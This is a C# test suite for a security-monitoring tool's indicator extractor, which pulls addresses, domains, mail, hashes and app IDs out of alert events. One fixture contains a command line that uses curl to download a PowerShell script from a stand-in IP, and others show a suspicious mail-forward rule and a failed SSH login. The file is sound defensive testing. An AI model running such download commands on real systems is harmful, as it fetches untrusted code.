using System.Text;
using CsCheck;
using Watchhouse.Monitoring.Alerts.Feed;
using Watchhouse.Monitoring.Contracts;

namespace Watchhouse.Monitoring.Tests.Alerts.Feed;

public sealed class IndicatorReaderTests
{
    private static readonly string[] Pieces = ["[", "{\"a\":", "\"x@y.zz ", "http://a.b/", "203.0.113.1", "]", "}", "\"", ",", ":"];
    private const string Hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    [Theory]
    [InlineData("""{"ipAddress":"203.0.113.9"}""", "address 203.0.113.9")]
    [InlineData("""{"ClientIP":"203.0.113.9:443"}""", "address 203.0.113.9")]
    [InlineData("""{"ClientIP":"[2001:DB8::1]:443"}""", "address 2001:db8::1")]
    [InlineData("""{"a":{"b":[{"c":"::ffff:203.0.113.9"}]}}""", "address 203.0.113.9")]
    [InlineData("""{"a":"10.1.2.3","b":"192.168.0.1","c":"172.20.1.1","d":"127.0.0.1","e":"169.254.1.1","f":"fe80::1","g":"100.64.0.1","h":"224.0.0.1","i":"1.2.3","j":"1234","k":"16.0.1"}""", "")]
    [InlineData("""{"Url":"https://Login.Shift-Roster.example:8443/consent?x=1"}""", "domain login.shift-roster.example")]
    [InlineData("""{"CommandLine":"curl http://198.51.100.3/a.ps1 -o a"}""", "address 198.51.100.3")]
    [InlineData("""{"ForwardTo":"smtp:Collector@Mail.example;"}""", "mail collector@mail.example")]
    [InlineData("""{"Hashes":"MD5=0123456789abcdef0123456789abcdef,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"}""", "hash " + Hash)]
    [InlineData("""{"SHA1":"da39a3ee5e6b4b0d3255bfef95601890afd80709","sid":"da39a3ee5e6b4b0d3255bfef95601890afd80700"}""", "hash da39a3ee5e6b4b0d3255bfef95601890afd80709")]
    [InlineData("""{"targetResources":[{"type":"ServicePrincipal","displayName":"Roster Sync","id":"11111111-2222-3333-4444-555555555555","modifiedProperties":[{"displayName":"TargetId.ServicePrincipalNames","newValue":"\"6f7e0f60-9401-4f5b-98e2-cf15bd5fd5e3\""}]}],"appId":"00000000-1111-2222-3333-444444444444"}""",
        "app 6f7e0f60-9401-4f5b-98e2-cf15bd5fd5e3, app roster sync")]
    [InlineData("""{"evidence":[{"@odata.type":"#microsoft.graph.security.oauthApplicationEvidence","appId":"6f7e0f60-9401-4f5b-98e2-cf15bd5fd5e3"}]}""", "app 6f7e0f60-9401-4f5b-98e2-cf15bd5fd5e3")]
    [InlineData("<34>Oct 11 22:14:15 gw sshd: Failed password for root from 203.0.113.9 port 4711", "address 203.0.113.9")]
    [InlineData("{\"cut\":\"off http://bad.example/x", "domain bad.example")]
    public void Read_OfAnEvent_FindsWhatIsKnownAgainElsewhere(string raw, string expected) =>
        Assert.Equal(expected, string.Join(", ", Read(Encoding.UTF8.GetBytes(raw)).Select(each => $"{each.Kind} {each.Value}").Order(StringComparer.Ordinal)));

    [Fact]
    public void OfTags_OfARule_FindsItsGroups()
    {
        var found = new HashSet<AlertIndicator>();
        IndicatorReader.OfTags(["attack.g0016", "attack.t1528", "attack.s0002", "attack.G1003", "attack.g16"], found, 60);
        Assert.Equal(["G0016", "G1003"], found.Select(each => each.Value).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void Read_OfAnyBytes_EndsWithinItsBounds() =>
        Gen.OneOf(
            Gen.Byte.Array[0, 4_000],
            Gen.String[0, 2_000].Select(Encoding.UTF8.GetBytes),
            Gen.Int[0, Pieces.Length - 1].Array[0, 400].Select(parts => Encoding.UTF8.GetBytes(string.Concat(parts.Select(part => Pieces[part])))))
        .Sample(raw => Assert.InRange(Read(raw).Count, 0, IAlertFeed.MostIndicators));

    [Fact]
    public void Read_OfTooMuch_TakesTheFirst()
    {
        var raw = Encoding.UTF8.GetBytes($"[{string.Join(',', Enumerable.Range(0, 500).Select(number => $"\"203.0.{number / 250}.{number % 250}\""))}]");
        Assert.Equal(IAlertFeed.MostIndicators, Read(raw).Count);
    }

    private static HashSet<AlertIndicator> Read(byte[] raw)
    {
        var found = new HashSet<AlertIndicator>();
        IndicatorReader.Read(raw, found, IAlertFeed.MostIndicators);
        return found;
    }
}
